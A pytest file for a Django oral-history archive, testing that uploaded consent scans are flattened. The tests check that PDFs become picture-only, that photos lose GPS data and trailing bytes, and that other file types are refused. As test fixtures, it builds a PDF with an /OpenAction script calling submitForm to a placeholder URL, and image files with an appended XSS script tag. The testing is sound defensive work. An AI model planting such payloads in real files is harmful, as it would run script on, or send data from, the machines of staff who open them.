"""Consent scans are opened by archive staff: they are flattened before they are stored.

Before: a PDF with an /OpenAction script, or a photo with the GPS position of the phone and
script bytes after the picture (a GIF/JPEG polyglot), was stored and served as uploaded.
"""

from __future__ import annotations

import io
from types import SimpleNamespace

import pypdfium2
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from media.services import storage_for
from media.tests import samples
from oral_history import services
from oral_history.models import Consent

from .factories import InterviewFactory, archivist

pytestmark = pytest.mark.django_db

SCRIPT = b"<script>alert(document.domain)</script>"


def pdf_with_open_action(pages: int = 2) -> bytes:
    """A small, well-formed PDF whose catalogue runs JavaScript when it is opened."""
    kids = " ".join(f"{4 + n} 0 R" for n in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode(),
        b"<< /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://x'\\);) >>",
        *[b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 280] >>" for _ in range(pages)],
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\n".encode())
    out.write(f"startxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


def stored_bytes(consent: Consent) -> bytes:
    with storage_for("private").open(consent.scanned_form.key, "rb") as handle:
        return handle.read()


@pytest.fixture
def staff():
    return archivist()


def test_a_pdf_is_rendered_to_a_picture_only_pdf(staff):
    original = pdf_with_open_action(pages=2)
    assert b"/OpenAction" in original and b"/JavaScript" in original
    consent = services.record_consent(
        interview=InterviewFactory(),
        user=staff,
        scanned_form=SimpleUploadedFile("同意书.pdf", original),
        scope=["archive"],
    )
    data = stored_bytes(consent)
    assert consent.scanned_form.content_type == "application/pdf"
    for marker in (b"/OpenAction", b"/JavaScript", b"/JS", b"app.alert", b"submitForm"):
        assert marker not in data
    document = pypdfium2.PdfDocument(data)
    assert len(document) == 2  # every page is still there, as a picture
    document.close()


def test_a_photo_loses_its_gps_and_anything_after_the_picture(staff):
    photo = samples.image_bytes("jpg", exif_gps=True) + SCRIPT
    consent = services.record_consent(
        interview=InterviewFactory(),
        user=staff,
        scanned_form=SimpleUploadedFile("scan.jpg", photo),
        scope=["archive"],
    )
    data = stored_bytes(consent)
    assert SCRIPT not in data and b"TestCamera" not in data
    image = Image.open(io.BytesIO(data))
    assert image.format == "JPEG" and not image.getexif()
    assert consent.scanned_form.content_type == "image/jpeg"


def test_a_png_is_re_encoded_as_png(staff):
    consent = services.record_consent(
        interview=InterviewFactory(),
        user=staff,
        scanned_form=SimpleUploadedFile("scan.png", samples.image_bytes("png") + SCRIPT),
        scope=["archive"],
    )
    data = stored_bytes(consent)
    assert SCRIPT not in data and Image.open(io.BytesIO(data)).format == "PNG"


def test_only_pictures_and_pdfs_are_accepted():
    upload = SimpleUploadedFile("form.epub", b"PK\x03\x04")
    for fmt in (
        SimpleNamespace(kind="document", name="epub"),
        SimpleNamespace(kind="audio", name="mp3"),
    ):
        with pytest.raises(ValidationError) as caught:
            services._flattened_scan(upload, fmt)
        assert caught.value.code == "consent_scan_type"


def test_a_pdf_with_too_many_pages_is_refused_and_nothing_stored(staff, settings):
    from media import processing

    interview = InterviewFactory()
    big = pdf_with_open_action(pages=processing.FLATTEN_MAX_PAGES + 1)
    with pytest.raises(ValidationError) as caught:
        services.record_consent(
            interview=interview,
            user=staff,
            scanned_form=SimpleUploadedFile("big.pdf", big),
            scope=["archive"],
        )
    assert caught.value.code == "consent_scan_unreadable"
    assert not interview.consents.exists()
